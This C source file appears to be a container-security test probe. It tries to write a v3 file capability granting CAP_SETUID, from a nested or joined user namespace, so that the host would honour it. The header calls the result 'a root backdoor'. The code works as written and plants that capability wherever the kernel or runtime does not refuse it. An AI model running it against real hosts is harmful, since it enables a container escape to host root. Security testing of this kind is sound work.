/* fcap-probe: try to leave a file capability on a file that the host can
 * use.  Inside a container (root in its user namespace), a nested user
 * namespace regains CAP_SETFCAP even where the container's own set lacks
 * it; a v3 security.capability written from there names the nested
 * namespace's root as its rootid, which the kernel translates through the
 * bind mount's id mapping.  If that lands as host uid 0, the file carries
 * a capability the host honours: a root backdoor.
 *
 * With --join NS, the user namespace at path NS (another process's, e.g.
 * a nested one a sibling container of the pod made) is joined instead.
 *
 * Usage: fcap-probe [--nested | --join NS] FILE
 * Exit 0: the xattr was written; 1: refused (errno printed); 2: setup.
 * Static and never sanitized: it runs inside a busybox container. */
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/xattr.h>
#include <unistd.h>

static int
write_file (const char *path, const char *s)
{
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  ssize_t n = write (fd, s, strlen (s));
  int e = errno;
  close (fd);
  errno = e;
  return n == (ssize_t)strlen (s) ? 0 : -1;
}

static const char *step = "unshare";

static int
enter_nested (void)
{
  char map[64];
  uid_t uid = getuid ();
  gid_t gid = getgid ();
  if (unshare (CLONE_NEWUSER) < 0)
    return -1;
  step = "setgroups";
  if (write_file ("/proc/self/setgroups", "deny") < 0 && errno != ENOENT)
    return -1;
  step = "uid_map";
  snprintf (map, sizeof map, "0 %u 1", (unsigned)uid);
  if (write_file ("/proc/self/uid_map", map) < 0)
    return -1;
  step = "gid_map";
  snprintf (map, sizeof map, "0 %u 1", (unsigned)gid);
  return write_file ("/proc/self/gid_map", map);
}

int
main (int argc, char **argv)
{
  struct vfs_ns_cap_data cap;
  const char *file;
  int nested = 0;

  if (argc == 3 && strcmp (argv[1], "--nested") == 0)
    nested = 1;
  else if (argc == 4 && strcmp (argv[1], "--join") == 0)
    {
      int fd = open (argv[2], O_RDONLY | O_CLOEXEC);
      if (fd < 0 || setns (fd, CLONE_NEWUSER) < 0)
        {
          printf ("join %s: %s\n", argv[2], strerror (errno));
          return 1;
        }
      close (fd);
    }
  else if (argc != 2)
    {
      fprintf (stderr, "usage: fcap-probe [--nested | --join NS] FILE\n");
      return 2;
    }
  file = argv[argc - 1];
  if (nested && enter_nested () < 0)
    {
      printf ("nested user namespace (%s): %s\n", step, strerror (errno));
      return 1;
    }
  memset (&cap, 0, sizeof cap);
  cap.magic_etc = VFS_CAP_REVISION_3 | VFS_CAP_FLAGS_EFFECTIVE;
  /* cap_setuid, harmless until someone executes the file */
  cap.data[0].permitted = 1u << CAP_SETUID;
  cap.rootid = 0;
  if (setxattr (file, "security.capability", &cap, sizeof cap, 0) < 0)
    {
      printf ("setxattr: %s\n", strerror (errno));
      return 1;
    }
  printf ("setxattr: written\n");
  return 0;
}
